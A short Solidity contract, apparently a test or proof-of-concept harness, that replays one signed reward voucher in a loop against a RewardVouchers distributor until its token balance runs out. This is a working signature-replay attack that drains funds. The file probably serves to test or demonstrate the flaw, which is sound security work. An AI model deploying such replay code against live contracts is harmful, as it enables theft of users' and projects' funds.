// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {RewardVouchers} from "../rewards/RewardVouchers.sol";

/// @notice Submits the same signed voucher again and again while the distributor can pay it.
contract VoucherReplay {
    function claimMany(RewardVouchers vouchers, address account, uint256 amount, bytes calldata signature, uint256 maxTimes)
        external
        returns (uint256 times)
    {
        while (times < maxTimes && vouchers.token().balanceOf(address(vouchers)) >= amount) {
            vouchers.claim(account, amount, signature);
            times++;
        }
    }
}
